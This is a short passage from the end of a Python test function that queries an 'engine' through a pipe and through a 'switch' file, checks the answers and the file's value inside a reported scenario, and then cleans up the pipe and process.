        report.note(key, None, words, "outside", told.SHOWN if shown else told.NOT_SHOWN)
        # Without the switch it is made: what is refused below is the switch.
        assert stage.engine.ask(**order, pane=str(pipe)) == "7\n"
        with report.scenario(key, None, words):
            answer = stage.engine.ask(**order, pane=str(switch))
            assert (answer, int(switch.read_text())) == (answer, SLACK)
    finally:
        pipe.unlink(missing_ok=True)
        process.kill()
        process.wait()
